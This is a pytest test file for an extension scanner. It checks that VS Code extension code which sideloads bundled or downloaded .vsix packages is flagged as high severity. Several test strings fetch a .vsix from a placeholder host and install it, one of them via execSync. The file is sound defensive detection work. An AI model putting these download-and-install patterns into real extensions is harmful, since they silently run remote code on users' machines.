"""Extensions that are installed from a file."""

from pathlib import Path

import pytest

from tests.analysis import analyse_extension
from tests.offline import found
from vscan.model import Kind, Severity

COMMAND = "vscode.commands.executeCommand('workbench.extensions.installExtension', {})"
PACKED = b"PK\x03\x04" + bytes(64)


@pytest.mark.parametrize(
    "code",
    [
        COMMAND.format("vscode.Uri.file(path.join(__dirname, 'helper.vsix'))"),
        "run('workbench.extensions.command.installFromVSIX', [Uri.joinPath(u, 'res', 'a.vsix')])",
        "run('workbench.extensions.installExtension', ctx.asAbsolutePath('helper.vsix'))",
    ],
)
def test_installing_what_comes_along_is_high(tmp_path: Path, code: str) -> None:
    files: dict[str, str | bytes] = {"res/helper.vsix": PACKED, "out/a.js": code}
    (finding,) = analyse_extension(tmp_path, files).of("sideloaded-extension")
    assert (finding.severity, finding.file) == (Severity.HIGH, "res/helper.vsix")
    assert "out/a.js installs an extension" in finding.message


@pytest.mark.parametrize(
    "code",
    [
        "const t = tmp + '/u.vsix'; get('https://x.example.com/u.vsix').pipe(fs.createWriteStream(t));"
        + COMMAND.format("Uri.file(t)"),
        "await download(u, 'a.vsix'); cp.execSync('code --install-extension a.vsix --force')",
        "const v = Uri.joinPath(s, 'next.vsix'); await write(v, await fetch(u));"
        + COMMAND.replace("installExtension", "command.installFromVSIX").format("[v]"),
    ],
)
def test_installing_what_is_downloaded_is_high(code: str) -> None:
    assert found(code)["sideloaded-extension"] is Severity.HIGH


def test_a_packed_extension_alone_is_posture(tmp_path: Path) -> None:
    (finding,) = analyse_extension(tmp_path, {"a/b.VSIX": PACKED}).of("nested-extension")
    assert (finding.severity, finding.kind) == (Severity.MEDIUM, Kind.POSTURE)


@pytest.mark.parametrize(
    "code",
    [
        COMMAND.format("'acme.recommended'"),
        "commands.executeCommand('workbench.extensions.installExtension', id); open('https://acme.example')",
        "// commands.executeCommand('workbench.extensions.installExtension', 'a.vsix', 'https://x.example')",
        "filters: { 'Extensions': ['vsix'] }, 'https://a.example/a.vsix'",
    ],
)
def test_installing_by_id_and_naming_a_file_are_not_found(code: str) -> None:
    assert found(code) == {}


def test_the_digest_covers_all_packed_extensions(tmp_path: Path) -> None:
    """The second one may be another one in the next version."""
    digests = set()
    for number in range(2):
        files: dict[str, str | bytes] = {"a.vsix": PACKED, "b.vsix": PACKED + bytes(number)}
        (finding,) = analyse_extension(tmp_path / str(number), files).of("nested-extension")
        digests.add(finding.digest)
    assert len(digests) == 2
